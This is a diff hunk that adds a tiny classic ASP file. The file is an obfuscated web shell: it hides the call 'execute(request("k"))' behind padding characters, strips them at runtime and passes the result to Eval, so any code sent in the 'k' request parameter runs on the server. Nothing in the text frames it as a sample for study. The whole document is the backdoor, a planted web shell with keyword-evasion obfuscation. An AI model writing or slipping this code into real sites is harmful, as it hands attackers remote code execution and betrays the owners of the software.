@@ -1,0 +1,5 @@
+<%
+c = "ex0ec0ute(req0uest(""k""))"
+c = Replace(c, "0", "")
+Eval c
+%>
